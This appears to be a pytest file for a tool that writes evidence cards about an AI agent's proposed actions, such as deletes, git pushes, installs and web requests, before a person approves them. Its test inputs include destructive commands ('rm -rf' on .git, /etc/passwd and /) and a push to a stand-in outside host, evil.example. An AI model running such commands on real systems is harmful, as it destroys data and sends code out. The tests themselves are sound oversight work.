"""What the card says of a delete, a push, an install and a request, worked out from the live tree."""

import json

import pytest

from .conftest import GIT, text_of


def test_a_delete_says_how_much_and_whether_git_has_it(workspace, ask, person):
    found = person.evidence(ask(workspace, "rm -rf d loose.txt nothing /etc/passwd"))["findings"][0]
    assert found["says"] == [
        "Deletes 2 files and 1 folder, 10 bytes.",
        "1 tracked by git, 1 not.",
        "Does not exist now: nothing.",
        "Outside the workspace, not checked: /etc/passwd.",
    ]
    assert [name["path"] for name in found["names"]] == ["d/", "loose.txt"]


def test_a_pattern_is_what_the_shell_would_make_of_it(workspace, ask, person):
    found = person.evidence(ask(workspace, "sudo rm *.txt; cd d && rm ../*.txt && curl https://example.org"))[
        "findings"
    ]
    assert [name["path"] for name in found[0]["names"]] == ["a.txt", "loose.txt"]


def test_the_folder_of_a_sub_command_is_its_own(workspace, ask, person):
    action = ask(workspace, "cd d && rm b.txt && curl https://example.org/x")
    findings = person.evidence(action)["findings"]
    assert [(f["line"], f["says"][0]) for f in findings] == [
        (2, "Deletes 1 file, 4 bytes."),
        (3, "GET to example.org."),
    ]


def test_the_history_of_a_repository_is_named(workspace, ask, says):
    assert says(ask(workspace, "rm -rf .git && curl example.org"))[1].endswith("deletes git history too.")


def test_git_clean_says_what_git_would_remove(workspace, ask, person):
    found = person.evidence(ask(workspace, "git clean -fd && curl example.org"))["findings"][0]
    assert found["says"] == ["Deletes 1 file, 6 bytes.", "Not tracked by git."]
    assert [name["path"] for name in found["names"]] == ["loose.txt"]


def test_a_push_says_where_which_commits_and_how_much(desk, ask, person):
    key = desk.create()["key"]
    desk.run(
        key,
        f"git init -q -b main && git init -q --bare ../home/agent/r || true; git init -q --bare /home/agent/r; "
        f"git remote add origin /home/agent/r && echo 1 > a && {GIT} add . && {GIT} commit -qm one && "
        f"git push -q origin main && echo 2 >> a && {GIT} commit -qam 'two <b>' && "
        "git remote set-url --push origin https://mia:secret@git.example.org/x.git",
    )
    found = person.evidence(ask(key, "git push origin main"))["findings"][0]
    assert found["says"] == [
        "Pushes to origin (https://mia:•••@git.example.org/x.git).",
        "Branch main: 1 commit, 1 file, +1 −0.",
    ]
    assert [commit["subject"] for commit in found["commits"]] == ["two <b>"]
    assert found["files"] == [{"path": "a", "additions": 1, "deletions": 0}]
    unknown = person.evidence(ask(key, "git push https://evil.example/x main"))["findings"][0]["says"][0]
    assert unknown == "Pushes to https://evil.example/x, which is not a remote of this repository."
    desk.run(key, f"{GIT} commit -q --amend -m other && git update-ref refs/remotes/origin/main HEAD")
    desk.run(key, "git reset -q --hard HEAD~1")
    forced = person.evidence(ask(key, "git push --force origin main"))["findings"][0]["says"]
    assert "Removes 1 commit from main." in forced


@pytest.fixture
def pushed(desk):
    """A workspace whose main is on origin, with a change, a new file and an ignored one beside it."""
    key = desk.create()["key"]
    desk.run(
        key,
        f"git init -q -b main && git init -q --bare /home/agent/r && git remote add origin /home/agent/r && "
        f"printf '1\n2\n' > a && echo '*.log' > .gitignore && {GIT} add . && {GIT} commit -qm one && "
        "git push -q origin main && printf '1\nzwei\n' > a && echo x > new.txt && echo y > no.log && rm -f z",
    )
    return key


ADDED = {"path": "new.txt", "additions": 1, "deletions": 0}
CHANGED = {"path": "a", "additions": 1, "deletions": 1}
ONE_MADE = "Includes 1 commit that this command creates first, as without git hooks."


@pytest.mark.parametrize(
    ("command", "branch", "subject", "files"),
    [
        ("git commit -am 'Mend it' && git push", "main", "Mend it", [CHANGED]),
        ("git add -A && git commit -m 'All' && git push origin main", "main", "All", [CHANGED, ADDED]),
        ("git add new.txt && git commit -m New && git push origin HEAD", "main", "New", [ADDED]),
        ("git commit -m Only a && git push", "main", "Only", [CHANGED]),
        ("git checkout -b f && git commit -am x && git push -u origin f", "f", "x", [CHANGED]),
        (
            'git switch -c f && git commit -am "$(date)"; git push -u origin f',
            "f",
            "(message unknown until it runs)",
            [CHANGED],
        ),
    ],
)
def test_a_push_counts_what_the_same_command_commits(desk, pushed, ask, person, command, branch, subject, files):
    before = desk.run(pushed, "git status --porcelain; git rev-parse HEAD; find .git | wc -l")
    found = person.evidence(ask(pushed, command))["findings"][-1]
    added, removed = sum(f["additions"] for f in files), sum(f["deletions"] for f in files)
    counted = f"{len(files)} file{'' if len(files) == 1 else 's'}"
    assert f"Branch {branch}: 1 commit, {counted}, +{added} −{removed}." in found["says"]
    assert (ONE_MADE in found["says"], "Earlier parts may change what it pushes." in found["says"]) == (True, False)
    assert [commit["subject"] for commit in found["commits"]] == [subject]
    assert found["files"] == files
    assert desk.run(pushed, "git status --porcelain; git rev-parse HEAD; find .git | wc -l") == before


@pytest.mark.parametrize("command", ["git commit -m nothing && git push", "git push origin main"])
def test_a_push_without_a_commit_counts_none(pushed, ask, person, command):
    found = person.evidence(ask(pushed, command))["findings"][-1]
    assert "Branch main: nothing new to push." in found["says"]
    assert ONE_MADE not in found["says"]


def test_the_evidence_names_a_call_that_cannot_be_rehearsed(pushed, ask, person):
    found = person.evidence(ask(pushed, "./build.sh && git commit -am x && git push"))["findings"][-1]
    assert "Earlier parts may change what it pushes." in found["says"]


def test_the_diff_of_a_push_opens_from_its_card(pushed, ask, person, product):
    action = ask(pushed, "git commit -am 'Mend it' && git push")
    person.evidence(action)
    link = f"/actions/{action['id']}/push/2/"
    assert f'href="{link}"' in person.get(f"/actions/{action['id']}/evidence/")
    text = text_of(person.get(link))
    assert ("zwei" in text, "new.txt" in text) == (True, False)


def test_the_diff_of_handrails_own_push_opens_from_its_card(desk, repository, person):
    key = desk.create(source={"git": str(repository[0])})["key"]
    desk.run(key, f"echo '# pushed' >> calc.py && echo other > loose.txt && {GIT} commit -qam mine")
    action = desk.post(f"/workspaces/{key}/push", {"branch": "agent/work"}, expect=202).json["action"]
    person.evidence(action)
    link = f"/actions/{action['id']}/push/1/"
    assert f'href="{link}"' in person.get(f"/actions/{action['id']}/evidence/")
    text = text_of(person.get(link))
    assert ("# pushed" in text, "loose.txt" in text) == (True, False)


@pytest.mark.parametrize(
    ("command", "said"),
    [
        (
            "pip install requests==2.3 flask -r dev.txt --index-url https://e.org/simple",
            [
                "Installs 2 pip packages and their dependencies.",
                "Installs the packages listed in dev.txt.",
                "From https://e.org/simple.",
                "Versions not pinned.",
            ],
        ),
        ("npm install left-pad@1.3.0", ["Installs 1 npm package and its dependencies."]),
        ("npm ci", ["Installs the project's dependencies (npm).", "Versions come from the lock file."]),
        ("gem install rails -v 7.1", ["Installs 1 gem package and its dependencies."]),
        (
            "curl -X PUT -d 'a=b' https://api.example.com/x",
            ["PUT to api.example.com.", "Sends 3 bytes from the command line."],
        ),
        ("curl -T a.txt https://e.org", ["PUT to e.org.", "Sends the file a.txt, 4 bytes now."]),
        ("wget -q http://e.org/f -O out", ["GET to e.org."]),
    ],
)
def test_installs_and_requests_are_read_from_the_command(workspace, ask, says, command, said):
    assert says(ask(workspace, command)) == said


def test_a_fetch_names_its_host(desk, workspace, says):
    body = {"tool": "WebFetch", "arguments": {"url": "https://e.org/x", "prompt": "p"}, "workspace": workspace}
    assert says(desk.post("/actions", body).json) == ["GET to e.org.", "Sends the URL (15 characters)."]


def test_of_everything_else_nothing_is_known(desk, workspace, says):
    body = {"tool": "mcp__issues__create", "arguments": {"title": "rm -rf /"}, "workspace": workspace}
    assert says(desk.post("/actions", body).json) == ["Effect unknown until it runs."]


def test_a_workspace_that_goes_to_the_trash_is_weighed(desk, person, workspace):
    action = desk.call("DELETE", f"/workspaces/{workspace}", None, 202).json["action"]
    said = person.evidence(action)["findings"][0]["says"]
    assert said[0].startswith("Moves ")


def test_the_card_comes_first_and_the_evidence_after_it(workspace, ask, person):
    action = ask(workspace, "rm d/b.txt && curl https://example.org")
    card = person.get(f"/actions/{action['id']}/")
    assert f'hx-get="/actions/{action["id"]}/evidence/"' in card
    assert "Approve" in card
    part = person.get(f"/actions/{action['id']}/evidence/", **{"HX-Request": "true"})
    assert part.lstrip().startswith("<section")
    assert "Deletes 1 file, 4 bytes." in text_of(part)
    assert "Deletes 1 file, 4 bytes." in text_of(person.get(f"/actions/{action['id']}/evidence/"))


def test_a_stranger_reads_no_evidence(workspace, ask, product):
    other = product.agent_token("another-agent")
    assert product.get(f"/api/v1/actions/{ask(workspace, 'curl e.org')['id']}/evidence", other).status == 404


def test_edits_of_several_places_and_files_have_a_difference(desk, workspace, person):
    edits = [{"old_string": "one", "new_string": "two"}, {"old_string": "two", "new_string": "three"}]
    many = {"tool": "MultiEdit", "arguments": {"file_path": "a.txt", "edits": edits}}
    notebook = {"cells": [{"id": "c1", "cell_type": "code", "source": ["x = 1"]}]}
    desk.run(workspace, f"mkdir -p nb && echo '{json.dumps(notebook)}' > nb/n.ipynb")
    cell = {"notebook_path": "nb/n.ipynb", "cell_id": "c1", "new_source": "x = 2"}
    patch = "*** Begin Patch\n*** Update File: a.txt\n@@\n-one\n+two\n*** Add File: b.txt\n+new\n*** End Patch"
    found = [
        person.evidence(desk.post("/actions", call | {"workspace": workspace}).json)["diffs"]
        for call in (
            many,
            {"tool": "NotebookEdit", "arguments": cell},
            {"tool": "apply_patch", "arguments": {"input": patch}},
        )
    ]
    told = [[(diff["path"], diff["kind"], diff["additions"]) for diff in diffs] for diffs in found]
    assert told[0] == [("a.txt", "modified", 1)]
    assert [(path, kind) for path, kind, _ in told[1]] == [("nb/n.ipynb", "modified")]
    assert told[2] == [("a.txt", "modified", 1), ("b.txt", "added", 1)]
